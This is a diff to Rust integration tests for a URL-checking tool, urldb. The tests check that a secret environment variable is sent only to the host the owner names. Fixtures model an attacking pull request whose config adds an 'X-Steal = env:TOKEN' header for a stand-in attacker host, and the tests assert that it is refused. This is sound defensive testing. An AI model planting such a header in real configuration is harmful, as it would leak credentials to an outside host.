@@ -84,10 +84,11 @@ fn a_pull_request_cannot_choose_which_variable_is_sent() {
     assert_eq!(refused.code, 2, "{}\n{}", refused.stdout, refused.stderr);
     assert!(
         refused.stderr.contains(
-            "reads the environment variable `SOME_SECRET`, which this run does not allow"
+            "reads the environment variable `SOME_SECRET`, which this run does not allow for \
+             `attacker.test`"
         ) && refused
             .stderr
-            .contains("run `urldb verify --allow-env SOME_SECRET`"),
+            .contains("run `urldb verify --allow-env SOME_SECRET=attacker.test`"),
         "{}",
         refused.stderr
     );
@@ -105,11 +106,13 @@ fn a_pull_request_cannot_choose_which_variable_is_sent() {
     assert_eq!(other.code, 2, "{}", other.stderr);
     assert!(heads(&attacker).is_empty());
 
-    // Allowed by whoever runs urldb, on the command line or in
-    // URLDB_ALLOW_ENV (commas or white space): sent.
+    // Allowed by whoever runs urldb for that host, on the command line
+    // or in URLDB_ALLOW_ENV (commas or white space): sent. (Allowed without
+    // a host, the checkout's urldb.toml would choose it:
+    // `a_bare_allowed_variable_goes_only_where_the_owner_says`.)
     let allowed = verify(
         db.path(),
-        &[&args[..], &["--allow-env", "SOME_SECRET"]].concat(),
+        &[&args[..], &["--allow-env", "SOME_SECRET=attacker.test"]].concat(),
         &secret,
     );
     assert_eq!(allowed.code, 0, "{}", allowed.stderr);
@@ -118,7 +121,7 @@ fn a_pull_request_cannot_choose_which_variable_is_sent() {
         &args,
         &[
             ("SOME_SECRET", SECRET),
-            ("URLDB_ALLOW_ENV", "OTHER, SOME_SECRET"),
+            ("URLDB_ALLOW_ENV", "OTHER, SOME_SECRET=Attacker.Test."),
         ],
     );
     assert_eq!(from_env.code, 0, "{}", from_env.stderr);
@@ -131,17 +134,31 @@ fn a_pull_request_cannot_choose_which_variable_is_sent() {
         "{seen:?}"
     );
     // A name that is no variable's is refused where it is given.
-    for (args, env) in [
-        (vec!["--allow-env", "A-B"], vec![]),
-        (vec![], vec![("URLDB_ALLOW_ENV", "GOOD, a=b")]),
+    for (args, env, says) in [
+        (
+            vec!["--allow-env", "A-B"],
+            vec![],
+            "is not an environment variable's name",
+        ),
+        (
+            vec![],
+            vec![("URLDB_ALLOW_ENV", "GOOD, a-b=x.test")],
+            "is not an environment variable's name",
+        ),
+        (
+            vec!["--allow-env", "A=x.test/y"],
+            vec![],
+            "is not a host name",
+        ),
+        (
+            vec![],
+            vec![("URLDB_ALLOW_ENV", "A=")],
+            "is not a host name",
+        ),
     ] {
         let run = verify(db.path(), &args, &env);
         assert_eq!(run.code, 2, "{args:?} {env:?}: {}", run.stderr);
-        assert!(
-            run.stderr.contains("is not an environment variable's name"),
-            "{}",
-            run.stderr
-        );
+        assert!(run.stderr.contains(says), "{}", run.stderr);
     }
 }
 
@@ -154,7 +171,10 @@ fn a_credential_never_goes_over_plain_http_unless_the_run_maps_it_so() {
     let config = "[verify.domains.\"www.example.org\"]\n\
                   headers = { Authorization = \"env:TOKEN\", Accept-Language = \"en\" }\n\
                   [verify.domains.\"cookie.example.org\"]\nheaders = { Cookie = \"session=1\" }\n";
-    let token = [("TOKEN", SECRET), ("URLDB_ALLOW_ENV", "TOKEN")];
+    let token = [
+        ("TOKEN", SECRET),
+        ("URLDB_ALLOW_ENV", "TOKEN=www.example.org"),
+    ];
     let addr = format!("127.0.0.1:{}", owner.port);
     let not_sent = |run: &Run, host: &str, header: &str| {
         assert_eq!(run.code, 1, "{}\n{}", run.stdout, run.stderr);
@@ -248,6 +268,130 @@ fn a_credential_never_goes_over_plain_http_unless_the_run_maps_it_so() {
         "{}",
         run.stderr
     );
+}
+
+/// Item 8 of round 5: the owner allows `TOKEN` for their API host
+/// (`URLDB_ALLOW_ENV=TOKEN`), and a pull request's `urldb.toml` adds a
+/// section for its own host with `env:TOKEN`. Without `--config-from`, a
+/// bare name lets the checkout's file choose the host: the run stops
+/// before any request ("name the host"). `TOKEN=HOST` sends it to that
+/// host alone (as `verify` requests it, no subdomain); with `--config-from`
+/// the base's file, which the pull request cannot change, says the host.
+#[test]
+fn a_bare_allowed_variable_goes_only_where_the_owner_says() {
+    let api = server();
+    let attacker = server();
+    let dir = tempfile::tempdir().expect("tempdir");
+    let root = dir.path();
+    support::git(root, &["init", "-q"]);
+    let record = "---\n---\n_path: /a\ncontent-type: text/html\n";
+    std::fs::write(root.join("api.example.yaml"), record).expect("write");
+    std::fs::write(
+        root.join("urldb.toml"),
+        "[verify.domains.\"api.example\"]\nheaders = { Authorization = \"env:TOKEN\" }\n",
+    )
+    .expect("write");
+    support::git(root, &["add", "-A"]);
+    support::git(root, &["commit", "-qm", "base"]);
+    // The pull request: a file of its own host, its section reading TOKEN.
+    std::fs::write(root.join("attacker.example.yaml"), record).expect("write");
+    std::fs::write(
+        root.join("urldb.toml"),
+        "[verify.domains.\"api.example\"]\nheaders = { Authorization = \"env:TOKEN\" }\n\
+         [verify.domains.\"attacker.example\"]\nheaders = { X-Steal = \"env:TOKEN\" }\n",
+    )
+    .expect("write");
+    let maps = [
+        format!("api.example=http://127.0.0.1:{}", api.port),
+        format!("attacker.example=http://127.0.0.1:{}", attacker.port),
+    ];
+    let args = [
+        "--allow-private",
+        "--retries",
+        "0",
+        "--map",
+        &maps[0],
+        "--map",
+        &maps[1],
+    ];
+    fn with<'a>(args: &[&'a str], more: &[&'a str]) -> Vec<&'a str> {
+        [args, more].concat()
+    }
+
+    // A bare name, the checkout's urldb.toml: stopped before any request,
+    // on the command line as in URLDB_ALLOW_ENV.
+    for (extra, env) in [
+        (vec!["--allow-env", "TOKEN"], vec![("TOKEN", SECRET)]),
+        (
+            vec![],
+            vec![("TOKEN", SECRET), ("URLDB_ALLOW_ENV", "TOKEN")],
+        ),
+    ] {
+        let run = verify(root, &with(&args, &extra), &env);
+        assert_eq!(run.code, 2, "{}\n{}", run.stdout, run.stderr);
+        assert!(
+            // (The first section that reads it: the owner's own.)
+            run.stderr
+                .contains("name the host: --allow-env TOKEN=api.example"),
+            "{}",
+            run.stderr
+        );
+        assert!(!run.stderr.contains(SECRET) && !run.stdout.contains(SECRET));
+    }
+    assert!(heads(&api).is_empty() && heads(&attacker).is_empty());
+
+    // Bound to the API host (also as `API.Example.`): the pull request's
+    // section for its own host is refused, before any request.
+    for bound in ["TOKEN=api.example", "TOKEN=API.Example."] {
+        let run = verify(
+            root,
+            &with(&args, &["--allow-env", bound]),
+            &[("TOKEN", SECRET)],
+        );
+        assert_eq!(run.code, 2, "{}", run.stderr);
+        assert!(
+            run.stderr.contains(
+                "reads the environment variable `TOKEN`, which this run does not allow for \
+                 `attacker.example`"
+            ),
+            "{}",
+            run.stderr
+        );
+    }
+    // Nor does a binding reach a subdomain of its host.
+    let run = verify(
+        root,
+        &with(
+            &args,
+            &[
+                "--allow-env",
+                "TOKEN=example",
+                "--allow-env",
+                "TOKEN=api.example",
+            ],
+        ),
+        &[("TOKEN", SECRET)],
+    );
+    assert_eq!(run.code, 2, "{}", run.stderr);
+    assert!(heads(&api).is_empty() && heads(&attacker).is_empty());
+
+    // The owner's configuration (`--config-from` the base): the bare name
+    // goes where it says, to the API host alone, and the pull request's
+    // host is requested without it.
+    let run = verify(
+        root,
+        &with(&args, &["--config-from", "HEAD", "--allow-env", "TOKEN"]),
+        &[("TOKEN", SECRET)],
+    );
+    assert_eq!(run.code, 0, "{}\n{}", run.stdout, run.stderr);
+    let api_heads = heads(&api).join("\n").to_ascii_lowercase();
+    assert!(
+        api_heads.contains(&format!("authorization: {SECRET}")),
+        "{api_heads}"
+    );
+    let attacker_heads = heads(&attacker);
+    assert_eq!(attacker_heads.len(), 1, "{attacker_heads:?}");
+    assert!(!attacker_heads[0].contains(SECRET), "{attacker_heads:?}");
 }
 
 /// A history line of run `id`, started at `started`, for `url`.
